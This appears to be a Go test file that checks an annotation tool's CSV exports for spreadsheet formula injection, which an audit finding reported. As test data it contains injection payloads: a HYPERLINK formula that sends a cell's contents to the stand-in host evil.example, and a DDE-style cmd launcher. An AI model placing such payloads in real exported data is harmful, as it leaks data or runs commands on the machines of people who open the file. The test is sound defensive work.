package export_test

import (
	"strings"
	"testing"

	"annotate/internal/domain"
	"annotate/internal/export"
)

// Finding 6: explanations and notes that begin like a spreadsheet formula
// came out unchanged in CSV exports, so opening the file ran them.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	f := newFixture(t)
	evil := `=HYPERLINK("http://evil.example/?d="&A1,"Click")`
	f.label("ann", "s4", false, wrong(evil, "contradiction"))
	f.must2(f.store.SetGold(f.ctx, f.project.ID, f.sents["s2"][1], f.users["lea"].ID, -1, domain.GoldDecision{
		GoldValues: domain.GoldValues{Label: domain.LabelUnfaithful, ErrorTypes: []string{"contradiction"}, Explanation: "+1+cmd|' /C calc'!A0", Ambiguous: no()},
		Note:       "@SUM(1+1)"}))
	for _, opt := range []export.Options{
		{What: export.Raw, Format: export.CSV},
		{What: export.Gold, Format: export.CSV},
		{What: export.TofuEval},
	} {
		t.Run(opt.What, func(t *testing.T) {
			f.t = t
			got := string(f.write(opt))
			for _, cell := range strings.FieldsFunc(got, func(r rune) bool { return r == ',' || r == '\n' }) {
				c := strings.TrimPrefix(cell, `"`)
				if c != "" && strings.ContainsRune("=+@", rune(c[0])) {
					t.Errorf("cell starts like a formula: %s", cell)
				}
			}
			wantAny := map[string][]string{
				export.Raw:      {`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"`},
				export.Gold:     {`'+1+cmd|' /C calc'!A0`, `'@SUM(1+1)`},
				export.TofuEval: {`'+1+cmd|' /C calc'!A0`},
			}[opt.What]
			for _, w := range wantAny {
				if !strings.Contains(got, w) {
					t.Errorf("export lacks the neutralised cell %s:\n%s", w, got)
				}
			}
			opt.KeepFormulas = true
			if raw := string(f.write(opt)); strings.Contains(raw, "'+1+cmd") || strings.Contains(raw, "'=HYPERLINK") {
				t.Errorf("KeepFormulas still changed cells")
			}
		})
	}
}
